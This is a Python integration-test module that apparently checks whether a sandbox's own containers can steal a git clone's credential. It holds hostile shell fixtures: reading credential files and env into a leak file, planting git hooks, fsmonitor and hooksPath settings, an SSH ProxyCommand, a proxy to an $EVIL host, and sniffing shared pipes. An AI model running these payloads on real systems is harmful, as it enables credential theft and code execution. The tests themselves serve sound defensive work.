"""What a workspace's own containers can do to a clone that is made beside them, to learn its
credential."""

from __future__ import annotations

import base64

from integration.runtimes.git_server import PASSWORD, USER, GitServer, commit, run

FORMS = (PASSWORD, base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode())
"""How the credential looks where it leaks: in a file, and in a header."""
LEAK = (
    "cat /tmp/moorage/credentials /tmp/moorage/inbox*/* /run/moorage/credentials /run/moorage/inbox*/* >>/projects/leak 2>&1; "
    "env >>/projects/leak; id >>/projects/leak"
)
"""What an attacker has Git run: it takes what lies in the sandbox."""

HOOKS = "for h in post-checkout reference-transaction post-index-change pre-auto-gc; do ln -sf /projects/evil .git/hooks/$h; done"
"""In a clone: hooks that a checkout, a fetch or a look at the index would run."""

SABOTAGE = r"""
printf '#!/bin/sh\n%s\n' "$LEAK" >/projects/evil; chmod 755 /projects/evil
mkdir -p /projects/hooks /projects/.home/.ssh
for hook in post-checkout reference-transaction post-index-change; do ln -sf /projects/evil /projects/hooks/$hook; done
printf '[core]\nfsmonitor=/projects/evil\nhooksPath=/projects/hooks\n' >/projects/config
printf '[http]\nproxy=%s\n[url "%s/private"]\ninsteadOf=%s/private\n' "$EVIL" "$EVIL" "$HOST" >/projects/hosts
printf 'Host *\nProxyCommand /projects/evil\n' >/projects/.home/.ssh/config
for file in .gitconfig .netrc .git-credentials .home/.gitconfig; do cp /projects/config /projects/$file; done
while :; do
  for pipe in /dev/shm/moorage-*; do [ -p $pipe ] && timeout 1 cat $pipe >>/projects/stolen; done
done 2>/dev/null &
while :; do
  for folder in /projects/app /projects/.moorage/clone/*.part /projects/.moorage/clone/*.whole; do
    [ -d $folder/.git ] || continue
    touch $folder/.git/moorage-incomplete
    case $MODE in
    hooks) mkdir -p $folder/.git/hooks; cp -d /projects/hooks/* $folder/.git/hooks/ ;;
    config | hosts) grep -q evil $folder/.git/config || cat /projects/$MODE >>$folder/.git/config ;;
    links)
      for inner in $folder/deep $folder/.git/objects $folder/.git/refs $folder/.git; do
        [ -L $inner ] || { mv $inner $inner.away && ln -s $TARGET $inner; }
        rm -f $inner; mv $inner.away $inner
      done ;;
    esac
  done
done 2>/dev/null
"""
"""A side container: as fast as it can, it reads from pipes that the sandbox may share with it, and
plants hooks (MODE), settings or other hosts wherever a clone appears, or swaps the clone's folders
for links to TARGET."""


def add_deep(git: GitServer) -> None:
    """`private-deep`: many files in many folders, which take a while to check out, and to move."""
    if (git.folder / "private-deep.git").exists():
        return
    bare = git.add("private-deep")
    work = bare.parent / "private-deep.work"
    for number in range(400):
        folder = work / "deep" / f"d{number % 20}"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"file{number}").write_text(f"{number}\n" * 2000)
    commit(work, "many")
    run("git", "-C", str(work), "push", "-q", "origin", "HEAD:main")
